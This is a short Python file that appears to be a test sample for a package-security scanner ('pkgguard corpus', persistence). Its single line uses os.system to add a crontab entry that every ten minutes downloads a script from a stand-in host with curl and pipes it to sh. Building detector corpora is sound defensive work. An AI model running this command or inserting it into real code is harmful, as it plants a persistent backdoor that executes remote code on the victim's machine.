# pkgguard corpus 146 (persistence), modelled on [linux-persistence]; inert, never run.
import os

os.system('(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s https://cdn.example/c | sh") | crontab -')
